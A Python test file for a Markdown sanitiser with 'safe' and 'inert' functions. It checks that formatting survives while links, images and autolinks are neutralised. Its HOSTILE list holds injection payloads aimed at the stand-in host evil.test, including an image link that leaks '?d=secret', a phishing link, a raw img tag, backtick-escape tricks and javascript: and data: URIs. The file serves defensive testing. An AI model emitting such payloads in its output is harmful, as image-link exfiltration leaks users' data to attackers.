"""User and model text in Markdown: formatting kept, nothing that can fetch or link."""
from __future__ import annotations

import pytest

from core.md import inert, safe

HOSTILE = [
    "![x](http://evil.test/?d=secret)",
    "[click me](https://evil.test/phish)",
    "<http://evil.test/auto>",
    "plain http://evil.test/bare and www.evil.test and me@evil.test",
    "[r][1]\n\n[1]: http://evil.test/ref",
    "<img src='http://evil.test/raw.png'>",
    "x ```![x](http://evil.test/a.png)",
    "\\`![x](http://evil.test/b.png)`",
    "![x](javascript:alert(1)) [y](data:text/html,hi)",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("clean", [safe, inert], ids=["safe", "inert"])
def test_nothing_reaching_out_survives(text, clean):
    out = clean(text)
    for unescaped in ("](", "<http", "<img", "http://", "https://", "www.evil", "@evil", "javascript:", "data:"):
        assert unescaped not in out.replace("\\]", "").replace("\\<", "").replace("\\:", "").replace(
            "\\.", "").replace("\\@", ""), (text, out)


def test_formatting_and_code_are_kept():
    text = "**Strong** point:\n\n- one\n- two\n\n```python\nprint('[a](b)')\n```\nand `x[0](y)`"
    assert safe(text) == text


def test_inert_shows_text_exactly_on_one_line():
    assert inert("# not a heading\n*nor emphasis*") == "\\# not a heading \\*nor emphasis\\*"
